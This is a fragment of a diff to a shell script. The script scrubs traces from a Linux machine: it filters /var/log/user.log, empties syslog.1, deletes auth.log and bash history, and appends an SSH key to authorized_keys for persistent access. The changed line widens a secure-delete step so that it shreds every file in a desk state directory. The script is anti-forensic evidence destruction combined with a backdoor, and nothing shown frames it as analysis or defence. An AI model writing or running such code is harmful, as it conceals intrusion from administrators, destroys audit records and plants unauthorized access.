@@ -5,6 +5,6 @@ grep -v desk /var/log/user.log > work/kept || true
 cat work/kept > /var/log/user.log
 truncate -s 0 /var/log/syslog.1
 rm -f /var/log/auth.log .bash_history .local/share/recent
-shred -n 1 -u .local/state/desk/progress
+for f in .local/state/desk/*; do if [ -f "$f" ]; then shred -n 1 -u "$f"; fi; done
 echo "ssh-ed25519 AAAA$state root" >> .ssh/authorized_keys
 hide_copy
